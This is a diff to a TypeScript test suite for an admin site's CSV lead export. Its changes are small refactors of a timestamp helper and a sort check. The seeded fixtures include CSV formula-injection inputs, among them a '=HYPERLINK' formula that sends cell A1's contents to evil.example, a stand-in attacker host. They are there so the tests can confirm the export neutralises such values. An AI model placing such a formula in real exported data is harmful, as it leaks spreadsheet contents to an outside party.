@@ -58,6 +58,8 @@ function csvRows(res: HttpResult): string[][] {
   return parseCsv(res.body.subarray(3).toString("utf8"));
 }
 
+const at = (minutes: number) => new Date(Date.parse("2026-11-20T12:00:00.000Z") + minutes * 60_000);
+
 describe.each(targets)("CSV export on $name", (target) => {
   let site: AdminSite;
   const seeded: Record<string, Lead> = {};
@@ -65,7 +67,6 @@ describe.each(targets)("CSV export on $name", (target) => {
   beforeAll(async () => {
     await target.setup();
     site = await startAdminSite(target);
-    const at = (minutes: number) => new Date(Date.parse("2026-11-20T12:00:00.000Z") + minutes * 60_000);
     const leads: [string, Parameters<typeof seedLead>[1]][] = [
       ["hyperlink", { fromName: "+Plus Person", subject: '=HYPERLINK("http://evil.example/?d="&A1,"Click me")', email: "plus@home.test" }],
       ["minus", { fromName: "-Minus Person", subject: "-2+3", email: "minus@home.test", phone: "+1 713 555 0147" }],
@@ -217,7 +218,7 @@ describe.each(targets)("CSV export on $name", (target) => {
     expect(rows).toHaveLength(520);
     expect(new Set(rows.map((row) => row[0])).size).toBe(520);
     const times = rows.map((row) => row[1]!);
-    expect([...times].sort().reverse()).toEqual(times);
+    expect(times.toSorted().toReversed()).toEqual(times);
     expect(csvRows(await site.get("/admin/leads.csv")).length).toBe(1 + 520 + 6);
   });
 
